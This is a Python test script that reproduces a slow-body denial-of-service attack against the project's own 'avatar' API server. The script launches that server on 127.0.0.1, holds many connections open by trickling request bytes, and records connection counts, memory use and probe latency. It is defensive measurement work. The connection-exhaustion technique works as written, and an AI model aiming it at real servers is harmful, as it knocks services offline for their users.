"""The slow-body attack of issue 16, against a server this script starts on 127.0.0.1 only.

It runs ``avatar serve --no-preload`` (whatever ``avatar`` package PYTHONPATH gives: point it at
an older checkout's ``src`` to measure "before") in a child process with a 1,024 soft open-files
limit, then opens ``--connections`` unauthenticated ``POST /v1/chat/completions`` requests that
declare a 1 MiB body and send one byte of it every ``--every`` seconds, for ``--seconds``.
Every second it records how many of those connections the server still holds, the server's
RSS, and the latency of one authenticated ``GET /v1/models`` (5 s timeout). Bounded: it
stops by itself, closes every socket and stops the server.

    PYTHONPATH=src .venv/bin/python scripts/slow_body_attack.py --connections 1100 --json out.json
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import resource
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx
import psutil

from avatar.testing.processes import closed_port, stop, wait_until_answering

TOKEN = "attack-test-token-0123456789"
HOST = "127.0.0.1"  # never any other address


def start_server(port: int, data_dir: Path, log_path: Path) -> subprocess.Popen[bytes]:
    env = {
        **os.environ,
        "AVATAR_API_TOKEN": TOKEN,
        "AVATAR_DATA_DIR": str(data_dir),
        "AVATAR_LOG_LEVEL": "info",
    }
    command = [sys.executable, "-m", "avatar.cli.main", "serve", "--no-preload"]
    command += ["--host", HOST, "--port", str(port)]

    def low_limit() -> None:  # the limit the review ran under
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (1024, hard))

    log = log_path.open("wb")
    return subprocess.Popen(
        command, stdout=log, stderr=subprocess.STDOUT, env=env, preexec_fn=low_limit
    )


class Attacker:
    """One slow unauthenticated body."""

    def __init__(self) -> None:
        self.writer: asyncio.StreamWriter | None = None
        self.open = False
        self.answer = b""

    async def connect(self, port: int) -> None:
        try:
            reader, self.writer = await asyncio.open_connection(HOST, port)
        except OSError:
            return
        head = (
            f"POST /v1/chat/completions HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
            "Content-Type: application/json\r\nContent-Length: 1048576\r\n\r\n"
        )
        self.writer.write(head.encode())
        self.open = True
        asyncio.get_running_loop().create_task(self._read(reader))

    async def _read(self, reader: asyncio.StreamReader) -> None:
        try:
            while chunk := await reader.read(4096):
                self.answer += chunk[:200] if not self.answer else b""
        except OSError:
            pass
        self.open = False

    def trickle(self) -> None:
        if self.open and self.writer is not None:
            try:
                self.writer.write(b" ")
            except OSError:
                self.open = False

    def close(self) -> None:
        if self.writer is not None:
            self.writer.close()


async def probe(http: httpx.AsyncClient) -> float | None:
    started = time.perf_counter()
    try:
        response = await http.get("/v1/models", timeout=5)
    except httpx.HTTPError:
        return None
    return (time.perf_counter() - started) * 1000 if response.status_code == 200 else None


def rss_mb(pid: int) -> float:
    return psutil.Process(pid).memory_info().rss / 2**20


async def attack(port: int, pid: int, args: argparse.Namespace) -> dict[str, Any]:
    attackers = [Attacker() for _ in range(args.connections)]
    samples: list[dict[str, Any]] = []
    async with httpx.AsyncClient(
        base_url=f"http://{HOST}:{port}", headers={"Authorization": f"Bearer {TOKEN}"}
    ) as http:
        baseline = {"rss_mb": rss_mb(pid), "probe_ms": await probe(http)}
        await asyncio.gather(*(a.connect(port) for a in attackers))
        started, next_trickle = time.monotonic(), 0.0
        while (elapsed := time.monotonic() - started) < args.seconds:
            if elapsed >= next_trickle:
                for a in attackers:
                    a.trickle()
                next_trickle += args.every
            latency = await probe(http)
            held = sum(a.open for a in attackers)
            samples.append(
                {
                    "t": round(elapsed, 1),
                    "held": held,
                    "rss_mb": round(rss_mb(pid), 1),
                    "probe_ms": None if latency is None else round(latency, 1),
                }
            )
            await asyncio.sleep(max(0.0, 1.0 - (time.monotonic() - started - elapsed)))
        for a in attackers:
            a.close()
        await asyncio.sleep(2)
        after = {"rss_mb": rss_mb(pid), "probe_ms": await probe(http)}
    answers = sorted({a.answer.split(b"\r\n", 1)[0].decode(errors="replace") for a in attackers})
    return {"baseline": baseline, "samples": samples, "after": after, "answers": answers}


def summary(result: dict[str, Any], log_path: Path) -> dict[str, Any]:
    samples = result["samples"]
    probes = [s["probe_ms"] for s in samples]
    ok = sorted(p for p in probes if p is not None)
    text = log_path.read_bytes()
    return {
        "held_max": max(s["held"] for s in samples),
        "held_at_10s": next((s["held"] for s in samples if s["t"] >= 10), None),
        "held_at_end": samples[-1]["held"],
        "rss_mb_before": round(result["baseline"]["rss_mb"], 1),
        "rss_mb_peak": max(s["rss_mb"] for s in samples),
        "rss_mb_after": round(result["after"]["rss_mb"], 1),
        "probe_timeouts": probes.count(None),
        "probes": len(probes),
        "probe_ms_p50": ok[len(ok) // 2] if ok else None,
        "probe_ms_max": ok[-1] if ok else None,
        "probe_ms_after": result["after"]["probe_ms"],
        "server_log_bytes": len(text),
        "accept_failed_lines": text.count(b"socket.accept() out of system resource"),
        "answers": result["answers"],
        "load": os.getloadavg(),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--connections", type=int, default=150)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--every", type=float, default=3.0, help="seconds between bytes")
    parser.add_argument("--json", type=Path)
    args = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the attacker needs the sockets
    with tempfile.TemporaryDirectory(prefix="avatar-attack-") as tmp:
        port, log_path = closed_port(), Path(tmp) / "server.log"
        server = start_server(port, Path(tmp) / "data", log_path)
        try:
            wait_until_answering(
                server,
                f"http://{HOST}:{port}/health",
                what="the server",
                log_tail=lambda: log_path.read_text(errors="replace")[-2000:],
                timeout_s=120,
                poll_s=0.5,
            )
            result = asyncio.run(attack(port, server.pid, args))
        finally:
            stop(server, grace_s=15)
        report = {
            "connections": args.connections,
            "seconds": args.seconds,
            **summary(result, log_path),
        }
    print(json.dumps(report, indent=2))
    if args.json:
        args.json.write_text(json.dumps({**report, "samples": result["samples"]}, indent=2))


if __name__ == "__main__":
    main()
